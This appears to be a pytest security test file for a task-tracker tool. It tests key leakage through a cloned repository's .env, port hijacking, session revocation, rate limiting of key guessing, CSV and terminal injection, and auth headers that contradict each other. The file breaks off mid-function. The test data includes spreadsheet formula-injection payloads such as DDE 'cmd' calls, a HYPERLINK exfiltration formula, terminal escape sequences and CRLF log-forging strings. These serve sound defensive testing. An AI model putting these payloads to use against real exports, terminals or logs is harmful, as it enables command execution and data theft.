"""Nobody is let in, and no key gets out: what strangers can do about it, each tried.

The order is that of SECURITY.md.
"""

from __future__ import annotations

import json
import os
import re
import signal
import socket
import subprocess
from collections.abc import Callable, Iterator
from contextlib import ExitStack, closing, contextmanager, suppress
from pathlib import Path
from typing import TYPE_CHECKING, Any

import httpx
import pytest
from click.testing import CliRunner
from websockets.exceptions import ConnectionClosed
from websockets.sync.client import ClientConnection, connect

from tests.support import raw
from tests.support.cli import Terminal, run
from tests.support.exported import cells, contents
from tests.support.foreign import EVERYTHING, as_json, listening, obeyed
from tests.support.hostile_repository import ADDRESSES, DATABASES, SECRET, Repository
from tests.support.raw import exchange, request
from tests.support.server import COMMAND, KEY, STOP, Server, environment, quote, wait_for
from tests.support.trap import Trap
from tracker.cli.group import cli
from tracker.config.settings import default_database

needs_posix = pytest.mark.skipif(os.name == "nt", reason="links, 0.0.0.0 and SIGKILL are POSIX")


if TYPE_CHECKING:
    from tests.support.dashboard import Dashboard

# --- A stranger's `.env`: the cloned repository.

OURS = "our-secret-project"
CLIENT_COMMANDS = [
    *(
        (command, "--project", OURS, "--task", "t", *more)
        for command, more in (
            ("start", ()), ("status", ()), ("finish", ()), ("error", ("--message", "m")),
        )
    ),
    *(("ls",), ("ls", OURS), ("show", OURS, "t"), ("stats",), ("tail",), ("report",)),
    *(("wait", "--ready", "--timeout", "0"), ("wait", "--all-finished", "--timeout", "0")),
    ("doctor", "--json"),
]  # fmt: skip


class User:
    """Has a server with its default database and the key it made, and clones a repository."""

    def __init__(self, home: Path, start_server: Callable[..., Server]) -> None:
        self.home = home
        self.database = default_database()
        self.database.parent.mkdir(parents=True)
        self.server = start_server(key=None, db=str(self.database))
        kept = self.database.with_name(f"{self.database.name}.api-key")
        self.key = kept.read_text(encoding="utf-8").strip()
        self.server.http.headers["X-API-Key"] = self.key
        self.repository = home / "repository"
        self.repository.mkdir()

    def reports(self) -> int:
        """How many reached the user's own server."""
        return int(self.server.http.get("/api/events", params={"since": 10**15}).json()["last_id"])


@pytest.fixture
def user(
    tmp_path: Path, start_server: Callable[..., Server], monkeypatch: pytest.MonkeyPatch
) -> User:
    for name in [name for name in os.environ if name.startswith(("TRACKER_", "API_", "XDG_"))]:
        monkeypatch.delenv(name)
    monkeypatch.setenv("HOME", str(tmp_path))
    user = User(tmp_path, start_server)
    monkeypatch.chdir(user.repository)
    monkeypatch.setenv("ANOTHER_SECRET", SECRET)
    return user


@pytest.fixture
def repository(user: User) -> Iterator[Repository]:
    with Trap("0.0.0.0") as elsewhere, Trap() as here:
        yield Repository(user.repository, user.database, elsewhere, here)


@needs_posix
@pytest.mark.parametrize("address", ADDRESSES)
@pytest.mark.parametrize("given", ["kept", "environment", "flag"])
def test_no_client_command_goes_where_a_strangers_env_says(
    user: User,
    repository: Repository,
    monkeypatch: pytest.MonkeyPatch,
    address: str,
    given: str,
) -> None:
    ADDRESSES[address](repository)
    flags = ("--api-key", user.key) if given == "flag" else ()
    if given == "environment":
        monkeypatch.setenv("API_KEY", user.key)
    monkeypatch.setenv("TRACKER_PORT", str(user.server.ready["port"]))
    for command in CLIENT_COMMANDS:
        CliRunner().invoke(cli, [*command, *flags])
    for trap in (repository.elsewhere, repository.here):
        assert trap.received == b""
        assert trap.connections == 0
    without_a_key = ("here, the database in memory", "a host of its own")
    if address not in without_a_key or given != "kept":
        assert user.reports() == 4  # they went to the user's own server


@needs_posix
@pytest.mark.parametrize("way", ["variables", "ready file"])
@pytest.mark.parametrize("chosen", [False, True])
def test_a_strangers_address_gets_a_strangers_key_at_most(
    user: User,
    repository: Repository,
    monkeypatch: pytest.MonkeyPatch,
    way: str,
    chosen: bool,
) -> None:
    if way == "variables":
        repository.env(TRACKER_URL=repository.elsewhere.url, API_KEY="a-key-of-the-stranger")
    else:
        repository.ready_file(url=repository.elsewhere.url, key="a-key-of-the-stranger")
        repository.env(TRACKER_READY_FILE="ready.json")
    monkeypatch.setenv("TRACKER_PORT", str(user.server.ready["port"]))
    if chosen:
        monkeypatch.setenv("API_KEY", user.key)
    for command in CLIENT_COMMANDS:
        CliRunner().invoke(cli, command)
    got = repository.elsewhere.received
    assert user.key.encode() not in got
    assert (b"a-key-of-the-stranger" in got) == (not chosen)
    assert (got == b"") == chosen
    assert user.reports() == (4 if chosen else 0)


@needs_posix
@pytest.mark.parametrize("given", ["kept", "environment", "flag"])
@pytest.mark.parametrize("where", ["elsewhere", "here"])
def test_a_ready_file_that_came_with_the_repository_gets_no_key_elsewhere(
    user: User, repository: Repository, monkeypatch: pytest.MonkeyPatch, where: str, given: str
) -> None:
    """Its name is the user's own word, as in the README; its content is not."""
    trap: Trap = getattr(repository, where)
    repository.ready_file(url=trap.url)
    monkeypatch.setenv("TRACKER_READY_FILE", "ready.json")
    flags = ("--api-key", user.key) if given == "flag" else ()
    if given == "environment":
        monkeypatch.setenv("API_KEY", user.key)
    for command in CLIENT_COMMANDS:
        CliRunner().invoke(cli, [*command, *flags])
    if where == "here" and given != "kept":
        return  # the user chose that key, and it stays on this machine
    assert user.key.encode() not in trap.received
    assert OURS.encode() not in trap.received
    assert set(trap.targets) <= {"GET /health", "GET /proof"}


def test_what_is_ignored_is_said_once_and_in_one_line(user: User) -> None:
    (user.repository / ".env").write_text(
        "TRACKER_URL=http://192.0.2.1:1\nTRACKER_DB=../x.db\nTRACKER_PROT=1\n", encoding="utf-8"
    )
    done = run(
        *("wait", "--ready", "--all-finished", "--timeout", "1"),
        home=user.repository,
        variables={"HOME": str(user.home), "TRACKER_PORT": str(user.server.ready["port"])},
    )
    assert done.returncode == 75
    ignored, misspelt, gave_up = done.stderr.decode().splitlines()
    assert ignored.startswith("tracker: warning: .env: TRACKER_URL, TRACKER_DB ignored: ")
    assert misspelt.startswith("tracker: warning: TRACKER_PROT: ")
    assert misspelt.endswith("TRACKER_PORT")
    assert "not all tasks have ended" in gave_up


@needs_posix
@pytest.mark.parametrize("database", DATABASES)
def test_a_server_started_in_a_hostile_repository_is_not_opened(
    user: User, repository: Repository, database: str
) -> None:
    user.server.report("finish", OURS)
    user.server.stop()
    repository.env(
        TRACKER_HOST="0.0.0.0",
        TRACKER_PORT=str(repository.here.port),
        TRACKER_READY_FILE="told.json",
        TRACKER_CORS_ORIGINS="*",
        TRACKER_ALLOWED_HOSTS="*",
        TRACKER_DURABILITY="normal",
        TRACKER_RETAIN_DAYS="0.0000001",
        TRACKER_RETAIN_BYTES="1",
        TRACKER_EPHEMERAL="true",
        API_KEY="a-key-of-the-stranger",
        TRACKER_RATE_LIMIT_API="0",
        TRACKER_DB=DATABASES[database](repository),
    )
    with served(user) as (url, stored, log):
        assert not is_open_beyond(url)
        headers = {"X-API-Key": "a-key-of-the-stranger", "Origin": "https://stranger.example"}
        answer = httpx.get(f"{url}/api/info", headers=headers, trust_env=False)
        assert "Access-Control-Allow-Origin" not in answer.headers
        headers["Host"] = "stranger.example"
        assert httpx.get(f"{url}/api/info", headers=headers).status_code == 400
        info = answer.json()
    assert stored == info["database"]
    assert stored == (":memory:" if database == "in memory" else str(user.database))
    assert info["last_id"] == (0 if database == "in memory" else 1)
    assert info["durability"] == "full"
    limits = info["limits"]
    assert (limits["retain_days"], limits["retain_bytes"]) == (0, 0)
    assert limits["api_requests_per_minute"] == 0  # that any `.env` may say
    assert not (user.repository / "told.json").exists()
    (line,) = [line for line in log.read_text().splitlines() if " WARNING " in line]
    for variable in ("HOST", "READY_FILE", "CORS_ORIGINS", "ALLOWED_HOSTS", "RETAIN_DAYS"):
        assert f"TRACKER_{variable}" in line


@needs_posix
def test_the_own_database_of_an_env_is_not_the_users(user: User) -> None:
    """What it may say for a database of its own, it may not say for another that is in force."""
    (user.repository / ".env").write_text(
        "TRACKER_DB=tracker.db\nTRACKER_CORS_ORIGINS=*\nTRACKER_HOST=0.0.0.0\n", encoding="utf-8"
    )
    others = [{"TRACKER_DB": str(user.home / "mine.db")}, {"TRACKER_EPHEMERAL": "true"}]
    for variables in [{}, *others]:
        with served(user, **variables) as (url, stored, _):
            own = not variables
            assert (stored == str(user.repository / "tracker.db")) == own
            assert is_open_beyond(url) == own
            origin = {"Origin": "https://stranger.example"}
            answer = httpx.get(f"{url}/health", headers=origin, trust_env=False)
            assert ("Access-Control-Allow-Origin" in answer.headers) == own


@needs_posix
def test_no_file_of_the_users_is_overwritten_for_an_env(user: User) -> None:
    mine = user.home / "mine.txt"
    mine.write_text("mine", encoding="utf-8")
    (user.repository / ".env").write_text(
        "TRACKER_DB=tracker.db\nTRACKER_READY_FILE=../mine.txt\n", encoding="utf-8"
    )
    with served(user) as (_, stored, log):
        assert stored == str(user.repository / "tracker.db")
        assert "TRACKER_READY_FILE ignored" in log.read_text()
        assert mine.read_text(encoding="utf-8") == "mine"
    assert mine.read_text(encoding="utf-8") == "mine"


@contextmanager
def served(user: User, **variables: str) -> Iterator[tuple[str, str, Path]]:
    """A server that was started in the repository: its address, its database, its log."""
    log = user.home / "log.txt"
    with log.open("w") as stderr:
        process = subprocess.Popen(
            [*COMMAND, "serve", "--port", "0"],
            cwd=user.repository,
            env=environment(user.home, **variables),
            stderr=stderr,
        )
    try:
        listening = wait_for(
            lambda: re.search(r"Listening on (\S+), database (.*)", log.read_text()), 30, "its log"
        )
        yield listening[1], listening[2], log
    finally:
        process.send_signal(STOP)
        assert process.wait(20) == 0, log.read_text()


def is_open_beyond(url: str) -> bool:
    """Whether the server takes connections to another address than that of its loopback."""
    try:
        socket.create_connection(("127.0.0.2", int(url.rpartition(":")[2])), 20).close()
    except ConnectionRefusedError:
        return False
    return True


# --- Whoever took the port of a server that is gone.


def leave_behind(server: Server) -> dict[str, Any]:
    """Kill it, so that its ready file stays; what that says."""
    os.kill(server.pid, signal.SIGKILL)
    server.process.wait(20)
    return dict(json.loads((server.folder / "ready.json").read_text(encoding="utf-8")))


def as_the_key_is_found(server: Server) -> list[tuple[str, ...]]:
    """Flags that lead to the address that the server had, and to the key that it kept."""
    return [("--ready-file", str(server.folder / "ready.json")), ("--url", server.url)]


@needs_posix
@pytest.mark.parametrize("command", CLIENT_COMMANDS, ids=lambda command: command[0])
def test_whoever_took_the_port_gets_no_key(
    start_server: Callable[..., Server], tmp_path: Path, command: tuple[str, ...]
) -> None:
    server = start_server(key=None)
    key = kept_key(server)
    port = leave_behind(server)["port"]
    for flags in as_the_key_is_found(server):
        with Trap(port=port) as trap:
            variables = {"TRACKER_DB": str(server.database)}
            done = run(*command, *flags, home=tmp_path, variables=variables)
        assert key.encode() not in trap.received
        assert OURS.encode() not in trap.received
        assert set(trap.targets) <= {"GET /health", "GET /proof"}
        if command[:2] == ("wait", "--ready"):  # it says that something answers, no more
            assert done.returncode == 0
            continue
        assert "GET /proof" in trap.targets
        assert done.returncode == 69
        if command[0] != "doctor":
            assert done.stderr.count(b"\n") == 1
            assert b"did not prove" in done.stderr
            assert b"API_KEY" in done.stderr


@needs_posix
def test_who_took_the_port_of_an_ephemeral_server_gets_no_key(tmp_path: Path) -> None:
    ready_file = tmp_path / "ready.json"
    serve = [*COMMAND, "serve", "--ephemeral", "--ready-file", str(ready_file)]
    with subprocess.Popen(serve, cwd=tmp_path, env=environment(tmp_path)):
        wait_for(ready_file.exists, 30, "the ready file")
        ready = json.loads(ready_file.read_text(encoding="utf-8"))
        flags = ("--ready-file", str(ready_file))
        assert run("stats", *flags, home=tmp_path).returncode == 0
        os.kill(ready["pid"], signal.SIGKILL)
    with Trap(port=ready["port"]) as trap:
        assert run("stats", *flags, home=tmp_path).returncode == 69
    assert ready["key"].encode() not in trap.received
    assert trap.targets == ["GET /proof"]


@needs_posix
@pytest.mark.parametrize("command", ["start", "stats", "doctor"])
def test_a_proof_that_is_handed_on_proves_nothing(
    start_server: Callable[..., Server], tmp_path: Path, command: str
) -> None:
    """The server has moved to another port; who has its old one asks it what the client asks."""
    server = start_server(key=None)
    proofs: list[bytes] = []

    def ask(_connection: socket.socket, request: bytes) -> bytes:
        with closing(raw.connect(server)) as behind:
            behind.sendall(request.replace(b"\r\n", b"\r\nConnection: close\r\n", 1))
            answer = raw.read_all(behind)
        proofs.extend([answer] if b'{"proof":' in answer else [])
        return answer.replace(b"connection: close\r\n", b"")

    names = ("--project", OURS, "--task", "t") if command == "start" else ()
    with Trap(answer=ask) as trap:
        variables = {"TRACKER_DB": str(server.database)}
        done = run(command, *names, "--url", trap.url, home=tmp_path, variables=variables)
    assert proofs, "the server gave none"
    assert done.returncode == 69
    assert kept_key(server).encode() not in trap.received
    assert OURS.encode() not in trap.received
    assert b"did not prove" in done.stdout + done.stderr


@needs_posix
def test_a_server_deletes_its_own_ready_file_only(start_server: Callable[..., Server]) -> None:
    first = start_server()
    ready_file = first.folder / "ready.json"
    second = Server.start(first.folder, db=str(first.folder / "second.db"))
    try:
        assert first.stop() == 0
        assert pid_in(ready_file) == second.pid
    finally:
        assert second.stop() == 0
    assert not ready_file.exists()


def pid_in(ready_file: Path) -> int:
    return int(json.loads(ready_file.read_text(encoding="utf-8"))["pid"])


def kept_key(server: Server) -> str:
    return (server.folder / "tracker.db.api-key").read_text(encoding="utf-8").strip()


# --- Signing out.

# Seconds. Half of what it takes until a stream notices anything by itself.
SOON = 7.0


def sign_in(server: Server) -> dict[str, str]:
    """What a browser sends from then on, and whoever stole it could send too."""
    answer = server.http.post("/api/session")
    server.http.cookies.clear()
    return {"Cookie": answer.headers["Set-Cookie"].partition(";")[0]}


def sign_out(server: Server, cookie: dict[str, str], query: str = "") -> None:
    answer = httpx.delete(f"{server.url}/api/session{query}", headers=cookie, trust_env=False)
    assert answer.status_code == 204


def socket_of(server: Server, cookie: dict[str, str]) -> ClientConnection:
    return connect(f"{server.ws_url}/ws", additional_headers=cookie, proxy=None)


def close_code(socket: ClientConnection) -> int | None:
    """How the server closes it; None: not soon."""
    with suppress(TimeoutError, ConnectionClosed):
        while True:
            socket.recv(timeout=SOON)
    return socket.close_code


def assert_worth_nothing(server: Server, cookie: dict[str, str]) -> None:
    """By every way in."""
    with httpx.Client(base_url=server.url, headers=cookie, trust_env=False) as thief:
        assert thief.get("/api/projects").status_code == 401
        assert thief.get("/api/events/stream").status_code == 401
        body = {"project": "stolen", "task": "T", "task_id": "t", "agent": "a"}
        assert thief.post("/webhook/start", json=body).status_code == 401
        assert thief.delete("/api/session?all").status_code == 401
    with socket_of(server, cookie) as socket:
        assert close_code(socket) == 3000


def knows(server: Server, cookie: dict[str, str]) -> bool:
    answer = httpx.get(f"{server.url}/api/projects", headers=cookie, trust_env=False)
    return answer.status_code == 200


def test_a_stolen_session_ends_where_its_owner_signs_out(server: Server) -> None:
    stolen, other = sign_in(server), sign_in(server)
    assert knows(server, stolen)
    sign_out(server, stolen)
    assert_worth_nothing(server, stolen)
    assert knows(server, other)


@pytest.mark.parametrize("query", ["", "?all"])
def test_what_a_session_opened_is_closed_with_it(server: Server, query: str) -> None:
    ended, other = sign_in(server), sign_in(server)
    with ExitStack() as stack:
        sockets = [stack.enter_context(socket_of(server, cookie)) for cookie in (ended, other, {})]
        by_key = f"{server.ws_url}/ws?api_key={KEY}"
        sockets[2] = stack.enter_context(connect(by_key, proxy=None))
        http = stack.enter_context(httpx.Client(base_url=server.url, timeout=SOON))
        streams = [
            stack.enter_context(http.stream("GET", "/api/events/stream", headers=headers))
            for headers in (ended, other, {"X-API-Key": KEY})
        ]
        lines = [stream.iter_lines() for stream in streams]
        assert [next(each) for each in lines] == [": connected"] * 3
        sign_out(server, ended, query)
        assert close_code(sockets[0]) == 3000
        assert list(lines[0]) == [""]  # to its end, and without a word more
        going_on = (1, 2) if not query else (2,)
        server.report("start", "p")
        for place in going_on:
            assert json.loads(sockets[place].recv(timeout=SOON))["type"] == "task_started"
            assert any(line == "event: task_started" for line in lines[place])
        if query:
            assert close_code(sockets[1]) == 3000
            assert list(lines[1]) == [""]


@pytest.mark.parametrize("query", ["", "?all"])
def test_it_stays_ended_though_the_server_is_killed(
    start_server: Callable[..., Server], query: str
) -> None:
    kept = {"SECRET_KEY": "secret-of-the-suite"}
    server = start_server(variables=kept)
    ended, other = sign_in(server), sign_in(server)
    sign_out(server, ended, query)
    server.stop(getattr(signal, "SIGKILL", signal.SIGTERM))
    again = start_server("--db", str(server.database), variables=kept)
    assert_worth_nothing(again, ended)
    assert knows(again, other) == (not query)


def test_all_sessions_can_be_ended_by_the_key(server: Server) -> None:
    cookies = [sign_in(server) for _ in range(3)]
    assert server.http.delete("/api/session?all").status_code == 204
    assert not any(knows(server, cookie) for cookie in cookies)
    assert knows(server, sign_in(server))


# --- Wrong keys.


def test_guessing_is_logged_and_slowed_and_starves_nobody(server: Server) -> None:
    guesses = [f"guessed-key-{number}" for number in range(150)]
    with httpx.Client(base_url=server.url, trust_env=False) as stranger:
        answers = []
        for guess in guesses:
            answers.append(stranger.get("/api/projects", headers={"X-API-Key": guess}))
            # The right key comes from the same address, all the time.
            assert server.report("status", "p").status_code in (200, 201)
    assert [answer.status_code for answer in answers] == [401] * 10 + [429] * 140
    refused = answers[-1]
    assert refused.json()["error"]["code"] == "RATE_LIMITED"
    assert 1 <= int(refused.headers["Retry-After"]) <= 60
    told = re.findall(r"Wrong API keys from (\S+): (\d+)", server.log)
    assert told == [("127.0.0.1", "1"), ("127.0.0.1", "10"), ("127.0.0.1", "100")]
    assert "guessed-key" not in server.log


def test_guessing_is_slowed_by_every_way_in(server: Server) -> None:
    url = f"{server.ws_url}/ws?api_key=guessed-key"
    codes = []
    for _ in range(11):
        with connect(url, proxy=None) as socket:
            codes.append((close_code(socket), socket.close_reason))
    assert codes[:10] == [(3000, "unauthorized")] * 10
    assert codes[10][0] == 1013
    assert re.fullmatch(r"too many wrong keys; wait \d+ s", codes[10][1] or "")
    body = {"project": "p", "task": "T", "task_id": "t", "agent": "a"}
    name, _, token = sign_in(server)["Cookie"].partition("=")
    with httpx.Client(base_url=server.url, trust_env=False) as stranger:
        for headers in (
            {"X-API-Key": "guessed-key"},
            {"Authorization": "Bearer guessed-key"},
            {"Cookie": f"{name}={token[:-8]}deadbeef"},  # a forged session is a guess too
        ):
            assert stranger.post("/webhook/start", json=body, headers=headers).status_code == 429
            assert stranger.post("/api/session", headers=headers).status_code == 429
            assert stranger.get("/api/events/stream", headers=headers).status_code == 429
        assert stranger.post("/api/session?api_key=guessed-key").status_code == 429
        for headers in ({}, {"X-API-Key": ""}):  # no key is no wrong one
            assert stranger.get("/api/projects", headers=headers).status_code == 401
    with connect(f"{server.ws_url}/ws?api_key={KEY}", proxy=None) as socket:
        socket.send('{"type":"ping"}')
        assert json.loads(socket.recv(timeout=SOON))["type"] == "pong"


def test_no_requests_fill_the_log(server: Server) -> None:
    """Whoever can connect can send what is no request, without any key."""
    with closing(raw.connect(server)) as odd:
        odd.sendall(ask("GET", "/", (HOST, b"Connection: Upgrade", b"Upgrade: odd")) * 20)
        odd.shutdown(socket.SHUT_WR)
        raw.read_all(odd)
    for broken in (
        b"broken\r\n\r\n",
        ask("GET", "/", (HOST, b"X: \x01")),
        ask("GET", "http://x/", (HOST,)),
    ):
        assert raw.exchange(server, broken).status == 400
    assert [line for line in server.log.splitlines() if " INFO Listening " not in line] == []


def test_a_session_that_is_over_is_no_guess(server: Server) -> None:
    """A page that was signed out asks a few times more before it knows."""
    ended = sign_in(server)
    sign_out(server, ended, "?all")
    with httpx.Client(base_url=server.url, headers=ended, trust_env=False) as page:
        assert {page.get("/api/projects").status_code for _ in range(30)} == {401}
    assert "Wrong API keys" not in server.log


# --- What a terminal or a spreadsheet would obey.

FORMULAS = (
    '=HYPERLINK("https://example.com/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    " =1+1",
    "\u00a0=1+1",
)
# Where numbers have a comma, spreadsheets part columns by `;`, and quotes inside of them are none.
WITHIN = (
    "a;=1+1;",
    "a; '=1+1;",
    "a;'=1+1;\n'';''-1",
    "a\n=1+1;\r\n@SUM(1);\t=1",
    "a\t+1",
    ";;=1;'x",
)
HARMLESS = ("'=1+1", "1=1", "a\rb", "'", " ", "é")


@pytest.fixture(scope="module")
def formulas(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A database in which agents have written formulas wherever they can."""
    server = Server.start(tmp_path_factory.mktemp("formulas"))
    for text in (*FORMULAS, *WITHIN, *HARMLESS):
        names = {"task": text, "agent": text}
        server.report("status", text, text, message=text, **names)
        server.report("error", text, text, error_type=text, error_message=text, **names)
        server.report("finish", text, "finished", result=text, duration_seconds=10**9, **names)
    assert server.stop() == 0
    return server.database


def test_no_cell_of_an_export_begins_a_formula(formulas: Path, tmp_path: Path) -> None:
    table = run("export", "--format", "csv", "--db", str(formulas), home=tmp_path).stdout
    rows = cells(table)
    tasks = [row for row in rows if row["record"] == "task"]
    titles = {row["title"] for row in tasks}
    assert titles >= {*(f"'{text}" for text in FORMULAS if "\t" not in text[1:]), *HARMLESS} - {
        *(f"'{text}" for text in ("\t=1+1", "\r=1+1", "\n=1+1"))
    }
    assert len(titles) == len({*FORMULAS, *WITHIN, *HARMLESS})
    begun = {
        (name, text) for row in rows for name, text in row.items()
        if text[:1] in ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠") and text
    }  # fmt: skip
    # Of whoever worked for 30 years when it was first heard of: a number, which does nothing.
    assert {name for name, _ in begun} <= {"started_at"}


def test_none_does_where_columns_are_parted_by_something_else(
    formulas: Path, tmp_path: Path
) -> None:
    table = run("export", "--format", "csv", "--db", str(formulas), home=tmp_path).stdout.decode()
    for parted in (";", "\t"):
        found = re.split(f"[{parted}\r\n]", table)  # it is all one: no quote begins a cell
        assert [cell for cell in found if cell.lstrip()[:1] in tuple("=+-@＝＋－＠")] == []


def test_an_import_gives_back_the_formulas_to_the_last_byte(formulas: Path, tmp_path: Path) -> None:
    for options in ((), ("--keep-formulas",)):
        export = ("export", "--format", "csv", *options, "--db")
        table = run(*export, str(formulas), home=tmp_path).stdout
        (tmp_path / "all.csv").write_bytes(table)
        database = tmp_path / f"new{len(options)}.db"
        back = run("import", "all.csv", "--db", str(database), home=tmp_path)
        assert back.returncode == 0, back.stderr
        assert contents(database) == contents(formulas)
        assert run(*export, str(database), home=tmp_path).stdout == table


def test_formulas_are_kept_for_whoever_asks(formulas: Path, tmp_path: Path) -> None:
    arguments = ("export", "--format", "csv", "--keep-formulas", "--db", str(formulas))
    tasks = [row for row in cells(run(*arguments, home=tmp_path).stdout) if row["record"] == "task"]
    assert {row["title"] for row in tasks} == {*FORMULAS, *WITHIN, *HARMLESS}
    assert {row["quoted"] for row in tasks} == {""}
    no_table = run("export", "--keep-formulas", "--db", str(formulas), home=tmp_path)
    assert (no_table.returncode, no_table.stdout) == (2, b"")


def test_a_table_that_lost_its_apostrophes_is_not_taken(formulas: Path, tmp_path: Path) -> None:
    export = ("export", "--format", "csv", "--db", str(formulas))
    table = run(*export, home=tmp_path).stdout
    (tmp_path / "all.csv").write_bytes(table.replace(b"'+1", b"+1"))
    back = run("import", "all.csv", "--db", "new.db", home=tmp_path)
    assert back.returncode == 78
    assert b"has lost its apostrophe" in back.stderr
    assert contents(tmp_path / "new.db")["projects"] == []


def on_a_terminal(*arguments: str, server: Server | None = None, home: Path) -> str:
    """What a command prints there; without colours: each escape sequence is of others."""
    with closing(
        Terminal(*arguments, home=home, server=server, variables={"TERM": "dumb"})
    ) as terminal:
        return terminal.read_all().replace("\r\n", "\n")


@pytest.mark.parametrize(
    "command",
    [
        *("ls", "ls p", "ls p --json", "show p t", "show p t --json", "stats", "stats --json"),
        *("tail", "tail --json", "report --format junit", "report --format json", "report"),
    ],
)
def test_nothing_that_agents_wrote_is_obeyed_or_unseen(
    start_server: Callable[..., Server], tmp_path: Path, command: str
) -> None:
    server = start_server()
    name = EVERYTHING[:-201:-1]
    fields = {"task": EVERYTHING[::-1], "agent": name, "metadata": {EVERYTHING: EVERYTHING}}
    error = {"error_type": EVERYTHING, "error_message": EVERYTHING}
    for project in ("p", name):
        assert server.report("status", project, "t", **fields, message=EVERYTHING).is_success
        assert server.report("error", project, "t", **fields, **error).is_success
        assert server.report("finish", project, "t2", **fields, result=EVERYTHING).is_success
    shown = on_a_terminal(*command.split(), server=server, home=tmp_path)
    assert "Traceback" not in shown
    assert re.search(r"\\U000e|\\udb40", shown)
    assert obeyed(shown) <= {"\t"}  # of traces


def test_nothing_that_another_server_says_is_obeyed(tmp_path: Path) -> None:
    told = {
        "message": EVERYTHING,
        "event_id": 1,
        "error": {"code": EVERYTHING, "message": EVERYTHING},
    }
    refusal = b"HTTP/1.1 400 No\r\nConnection: close\r\n\r\n" + json.dumps(told).encode()
    names = ("--project", "p", "--task", "t")
    for answer in (as_json(told), refusal, b"HTTP/1.1 500 \x1b[2J\x9b2J\r\n\r\n", b"\x1b[2J\r\n"):
        with listening(lambda _method, _target, answer=answer: answer) as url:
            for command in (("start", *names), ("ls",), ("doctor",)):
                shown = on_a_terminal(*command, "--url", url, "--api-key", KEY, home=tmp_path)
                assert "Traceback" not in shown
                assert obeyed(shown) == set(), command


def test_no_name_of_a_file_and_no_setting_is_obeyed(tmp_path: Path) -> None:
    odd = "x\x1b[2J\u202e\U000e0041"
    (tmp_path / ".env").write_text(f"TRACKER_DB='{odd}/tracker.db'\nTRACKER_HOST='{odd}'\n")
    for command in (
        *(("ls",), ("doctor",), ("serve", "--port", "0"), ("prune", "--older-than", "1d")),
        *(("backup", odd), ("restore", odd), ("import", odd), ("show", "--" + odd), (odd,)),
        *(("ls", "--url", f"http://{odd}"), ("ls", "--ready-file", odd), ("start", odd)),
    ):
        shown = on_a_terminal(*command, home=tmp_path)
        assert "Traceback" not in shown, command
        assert obeyed(shown) == set(), command


@pytest.mark.parametrize("format_", ["text", "json"])
def test_nothing_writes_lines_into_the_log(
    start_server: Callable[..., Server], tmp_path: Path, format_: str
) -> None:
    database = str(tmp_path / "odd\n\x1b[2J\u202eforged.db")
    server = start_server("--log-level", "debug", "--log-format", format_, db=database)
    for target in (b"/%0aforged", b"/\x1b[2J", b"/x%1b?q=%0d%0aforged", b"/ws?project=%0aforged"):
        exchange(
            server, request("GET", target, (b"X-Odd: \x1b[2J\x9b", b"User-Agent: %0a\tforged"))
        )
        exchange(server, request("GET", target, (b"Upgrade: websocket", b"Connection: Upgrade")))
    assert server.stop() == 0
    start = r"\{" if format_ == "json" else r"\d{4}-\d\d-\d\dT[\d:.]+Z [A-Z]+ |  "
    assert all(re.match(start, line) for line in server.log.splitlines())
    assert obeyed(server.log) <= {"\t"}


@pytest.mark.browser
def test_what_is_copied_as_a_prompt_is_what_is_seen(
    open_dashboard: Callable[..., Dashboard], shared_server: Server, project: str
) -> None:
    hidden = EVERYTHING.replace("\n", "").replace("\t", "")
    assert shared_server.report("error", project, task=hidden, error_message=hidden).is_success
    path = f"/projects/{quote(project)}/tasks/task-1"
    page = open_dashboard(path, permissions=["clipboard-read", "clipboard-write"]).page
    page.get_by_role("button", name="Copy as prompt").click()
    page.get_by_role("button", name="Copied").wait_for()
    copied = page.evaluate("navigator.clipboard.readText()")
    assert r"\u202e" in copied
    assert r"\udb40\udc41" in copied
    assert obeyed(copied) == set()


# --- Requests that say two things at once.

HOST = b"Host: localhost"
RIGHT = b"X-API-Key: " + KEY.encode()
WRONG = b"X-API-Key: somebody-elses-key"
BEARER = b"Authorization: Bearer "
UPGRADE = (
    *(b"Connection: Upgrade", b"Upgrade: websocket", b"Sec-WebSocket-Version: 13"),
    b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==",
)

# What a client sends besides the request itself: its headers, and what follows the address.
CONTRADICTIONS: dict[str, tuple[tuple[bytes, ...], str]] = {
    "two hosts": ((HOST, b"Host: evil.example", RIGHT), ""),
    "the same host twice": ((HOST, HOST, RIGHT), ""),
    "two keys, the right one first": ((HOST, RIGHT, WRONG), ""),
    "two keys, the right one last": ((HOST, WRONG, RIGHT), ""),
    "the same key twice": ((HOST, RIGHT, RIGHT), ""),
    "two bearers": ((HOST, BEARER + KEY.encode(), BEARER + b"other"), ""),
    "a key and another parameter": ((HOST, RIGHT), "?api_key=other"),
    "another key and a parameter": ((HOST, WRONG), f"?api_key={KEY}"),
    "a key and a parameter in disguise": ((HOST, RIGHT), "?%61pi_key=other"),
    "a bearer and another parameter": ((HOST, BEARER + b"other"), f"?api_key={KEY}"),
    "two parameters": ((HOST,), f"?api_key=other&api_key={KEY}"),
}
PLAIN: dict[str, tuple[tuple[bytes, ...], str]] = {
    "a key, and what a proxy adds": ((HOST, RIGHT, b"Authorization: Basic eDp5", BEARER), ""),
    "the same key in two ways": ((HOST, RIGHT), f"?api_key={KEY}&api_key={KEY}"),
    "an empty parameter": ((HOST, RIGHT), "?api_key="),
    "a parameter, and what a proxy adds": ((HOST, b"Authorization: Basic eDp5"), f"?api_key={KEY}"),
}


@pytest.fixture(scope="module", params=[(), ("--rate-limit-webhook", "1000000")],
                ids=["shorter way", "usual way"])  # fmt: skip
def either_way(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Server]:
    """Webhooks without a limit take a shorter way."""
    server = Server.start(tmp_path_factory.mktemp("either") / "server", *request.param)
    yield server
    server.stop()


def report(project: str, headers: tuple[bytes, ...], query: str = "") -> bytes:
    body = json.dumps({"project": project, "task": "T", "task_id": "t", "agent": "a"}).encode()
    given = (*headers, b"Content-Type: application/json", b"Content-Length: %d" % len(body))
    return ask("POST", f"/webhook/start{query}", given) + body


def ask(method: str, target: str, headers: tuple[bytes, ...]) -> bytes:
